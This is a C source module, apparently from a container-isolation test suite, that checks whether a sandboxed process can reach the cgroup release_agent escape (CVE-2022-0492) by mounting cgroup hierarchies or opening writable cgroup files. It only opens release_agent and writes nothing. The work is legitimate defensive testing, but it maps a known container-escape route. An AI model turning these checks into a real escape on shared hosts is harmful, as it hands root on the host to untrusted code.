/*
 * Attack: get hold of a cgroup hierarchy and name a program that the host's kernel runs as root.
 *   Opening release_agent for writing is the proof; nothing is ever written.
 * Layer: capabilities and seccomp (mount), cgroupns and mountns (no cgroupfs inside).
 * Source: CVE-2022-0492; cgroups(7), "cgroups v1 release notification".
 */
#include "attack.h"

static void mount_v1(char **args)
{
    static const char *const controllers[] = {"memory",  "pids",    "cpu",
                                              "devices", "freezer", "rdma"};
    char dir[] = "/tmp/cgroup-XXXXXX", path[64];
    int fd, error = 0;

    if (!mkdtemp(dir))
        impossible("mkdtemp: %s", strerror(errno));
    snprintf(path, sizeof path, "%s/release_agent", dir);
    for (size_t i = 0; i < sizeof controllers / sizeof *controllers; i++) {
        if (mount("cgroup", dir, "cgroup", 0, controllers[i]) < 0) {
            error = errno;
            continue;
        }
        fd = open(path, O_WRONLY);
        error = errno;
        umount2(dir, MNT_DETACH);
        rmdir(dir);
        if (fd >= 0)
            escaped("mounted %s and opened its release_agent", controllers[i]);
        held("mounted %s but release_agent: %s", controllers[i], strerror(error));
    }
    rmdir(dir);
    held("mount cgroup: %s", strerror(error));
}

static void mount_v2(char **args)
{
    char dir[] = "/tmp/cgroup-XXXXXX";
    long rc;

    if (!mkdtemp(dir))
        impossible("mkdtemp: %s", strerror(errno));
    rc = mount("cgroup2", dir, "cgroup2", 0, NULL);
    if (rc == 0)
        umount2(dir, MNT_DETACH);
    int error = errno;
    rmdir(dir);
    errno = error;
    judge_call("mount cgroup2", rc);
}

/* Any cgroup file that a mounted hierarchy lets us open for writing. */
static void visible(char **args)
{
    static const char *const files[] = {
        "release_agent",         "cgroup.procs", "notify_on_release",     "devices.allow",
        "memory.limit_in_bytes", "pids.max",     "cgroup.subtree_control"};
    DIR *dir = opendir("/sys/fs/cgroup");
    struct dirent *entry;

    if (!dir)
        held("/sys/fs/cgroup: %s", strerror(errno));
    while ((entry = readdir(dir)))
        for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
            char path[512];

            snprintf(path, sizeof path, "/sys/fs/cgroup/%s/%s", entry->d_name, files[i]);
            if (open(path, O_WRONLY) >= 0)
                escaped("opened %s", path);
        }
    held("no cgroup file can be opened for writing");
}

ATTACK({"mount_v1", mount_v1}, {"mount_v2", mount_v2}, {"visible", visible})
